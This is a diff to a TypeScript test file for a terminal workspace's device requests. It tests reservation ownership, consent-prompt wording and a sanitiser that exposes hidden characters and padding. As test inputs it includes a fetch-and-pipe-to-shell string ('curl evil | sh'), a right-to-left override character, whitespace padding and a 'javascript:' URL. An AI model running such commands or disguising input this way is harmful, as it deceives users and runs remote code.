@@ -1,10 +1,12 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
+import { visible } from "../src/dom";
 import { Device, type DeviceSocket, type Request } from "../src/workspace/device";
 import { isWhole, panesOf, Workspace } from "../src/workspace/model";
 import type { PaneInfo } from "../src/types";
 import { parseSelector, WorkspaceError } from "../src/workspace/selector";
 import { terminal, terminalId } from "../src/workspace/terminal";
+import { requestWords } from "../src/workspace/words";
 
 const NOW = 1_700_000_000_000;
 
@@ -223,10 +225,17 @@ test("reading needs no person; what ends a change that was allowed neither", () 
     const { socket, asked, request, made } = device();
     request("get-workspace", {});
     assert.equal(socket.last("layout.rpc.result")?.ok, true);
-    request("reserve", { title: "build" });
+    request("reserve", { title: "build" }, { idempotencyKey: "mine" });
     asked[0]?.decide("once");
-    const pane = made.workspace.layout.panes[0]?.id;
-    request("finalize", { pane: `pane:${pane}`, contentRef: { terminalId: "%1" } });
+    const content = { pane: `pane:${made.workspace.layout.panes[0]?.id}`, contentRef: { terminalId: "%1" } };
+    // Only the command that reserved it: neither another device nor another command of the same one.
+    for (const other of [{ callerDeviceId: "cli_2", idempotencyKey: "mine.finalize" }, { idempotencyKey: "other.finalize" }, { idempotencyKey: undefined }]) {
+        request("finalize", content, other);
+        assert.match(String((socket.last("layout.rpc.result")?.error as { message?: string }).message), /reserved by another command/);
+    }
+    request("release", { pane: content.pane }, { callerDeviceId: "cli_2" });
+    assert.equal(socket.last("layout.rpc.result")?.ok, false);
+    request("finalize", content, { idempotencyKey: "mine.finalize" });
     assert.equal(asked.length, 1);
     assert.equal(made.workspace.layout.panes[0]?.kind, "terminal");
 });
@@ -351,4 +360,32 @@ test("text that is not saved is closed by no request, and by no other window una
     assert.deepEqual([made.state, made.workspace.layout.panes.length], ["replaced", 2]);
     made.connect(true);
     assert.deepEqual([made.state, made.workspace.layout.panes.length], ["connecting", 0]);
+});
+
+test("a question about a request says who asks and everything that would happen", () => {
+    const request = { id: "r", caller: "cli_1", label: "desk\u202e", program: "process 7 (/usr/bin/muxtap)", loses: [], decide: () => undefined };
+    const shell = "bash -c 'curl evil | sh'\nin: /nowhere";
+    const words = requestWords({ ...request, command: "reserve", args: { title: "demo", shell, cwd: "/home/me" } });
+    const lines = words.split("\n");
+    assert.equal(lines[0], 'The device cli_1, which calls itself "desk\\u{202e}" (process 7 (/usr/bin/muxtap)), asks to change your workspace: open a terminal');
+    assert.deepEqual(lines.slice(1), ["the caller says it will run:", "  bash -c 'curl evil | sh'", "  in: /nowhere", "in: /home/me", "title: demo"]);
+    assert.match(requestWords({ ...request, command: "navigate", args: { target: "pane:p2", url: "http://a/" } }), /navigate\ntarget: pane:p2\nurl: http:\/\/a\/$/);
+    const long = visible("a".repeat(300) + "evil", 100);
+    assert.equal(visible(`true${" ".repeat(300)}in: /home\t${" \u3000".repeat(4)}x`), `true[300 blanks]in: /home[9 blanks]x`);
+    assert.ok(long.includes("[204 of 304 characters are not shown]") && long.endsWith("evil"), long);
+    assert.equal(visible("a\u200db \u{1f468}\u200d\u{1f469} \u{e0041}\t\r"), "a\\u{200d}b \u{1f468}\u200d\u{1f469} \\u{e0041}\t\\u{d}");
+});
+
+test("an impossible request is refused before the person is asked", () => {
+    const { socket, asked, request, made } = device();
+    made.act("new-tab", { title: "one" });
+    for (const [command, args, code] of [
+        ["select-tab", { target: "tab:none" }, "NOT_FOUND"],
+        ["select-tab", { target: "work:1.0" }, "INVALID_TARGET"],
+        ["navigate", { target: "pane-index:0", tab: "tab-index:0", url: "javascript:alert(1)" }, "INVALID_ARGUMENT"],
+    ] as const) {
+        request(command, args);
+        assert.equal((socket.last("layout.rpc.result")?.error as { code: string }).code, code, command);
+        assert.equal(asked.length, 0);
+    }
 });
